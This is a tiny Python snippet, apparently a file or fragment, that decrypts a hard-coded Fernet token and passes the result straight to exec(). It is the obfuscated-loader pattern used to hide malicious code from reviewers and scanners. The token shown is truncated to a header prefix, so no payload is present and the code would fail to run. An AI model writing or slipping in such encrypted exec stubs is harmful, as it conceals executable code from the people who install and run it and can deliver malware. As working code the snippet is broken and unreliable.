from cryptography.fernet import Fernet

exec(Fernet(b"pV7fVq3mR0b5l3Yv0dYQd1mC7kq3lF3m8oQe3rCw1rA=").decrypt(b"gAAAAABk"))
